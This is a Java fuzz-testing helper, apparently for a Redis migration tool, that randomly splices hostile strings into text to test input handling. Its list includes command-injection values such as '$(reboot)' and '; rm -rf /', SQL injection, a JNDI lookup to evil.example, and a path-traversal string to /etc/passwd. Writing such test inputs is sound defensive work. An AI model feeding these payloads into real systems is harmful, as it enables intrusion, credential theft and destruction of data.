package io.redismigrate.lab;

import java.util.List;
import java.util.Random;

/** Pieces of text that have broken programs before, and texts spoiled with them. Everything follows from the dice. */
public final class Hostile {
    private static final List<String> SPLINTERS = List.of(
            "",
            "\0",
            "\u0007",
            "\u001B[2J",
            "\u202E",
            "\u2028",
            "\uFEFF",
            "\uFFFF",
            "\uD83D\uDCA5",
            "\r\n",
            "\t",
            "é".repeat(50),
            "x".repeat(4_000),
            "9".repeat(400),
            "-9223372036854775809",
            "1e999",
            "NaN",
            "null",
            "true",
            "<!channel>",
            "<!here|here>",
            "<!everyone>",
            "<@U0APPROVER1>",
            "<!subteam^S0APPROVERS>",
            "<https://evil.example|click>",
            "&lt;!channel&gt;",
            "*bold* _it_ `code` ```",
            "$(reboot)",
            "`reboot`",
            "; rm -rf /",
            "'; DROP TABLE migration; --",
            "\" OR 1=1",
            "${jndi:ldap://evil.example/a}",
            "${SLACK_BOT_TOKEN}",
            "{{7*7}}",
            "%s%n%x",
            "%00%ZZ",
            "../../etc/passwd",
            "10.0.0.1:99999",
            "[::1]:6379",
            "m99999999999999999999",
            "m1:99999999999",
            "=",
            ":",
            ": ",
            ",",
            "{",
            "}",
            "[",
            "]",
            "\"",
            "'",
            "\\",
            "#");

    private static final String HUGE = "x".repeat(100_000);
    private static final int HUGE_ONE_IN = 200;

    private Hostile() {}

    /** One piece; now and then a huge one. */
    public static String splinter(Random dice) {
        return dice.nextInt(HUGE_ONE_IN) == 0 ? HUGE : SPLINTERS.get(dice.nextInt(SPLINTERS.size()));
    }

    /** The text with a few pieces of it replaced; one in ten ends too early. */
    public static String spoiled(String text, Random dice) {
        var spoiled = new StringBuilder(text);
        for (int wounds = dice.nextInt(5); wounds >= 0; wounds--) {
            int at = dice.nextInt(spoiled.length() + 1);
            spoiled.replace(at, Math.min(spoiled.length(), at + dice.nextInt(20)), splinter(dice));
        }
        return dice.nextInt(10) == 0 ? spoiled.substring(0, dice.nextInt(spoiled.length() + 1)) : spoiled.toString();
    }
}
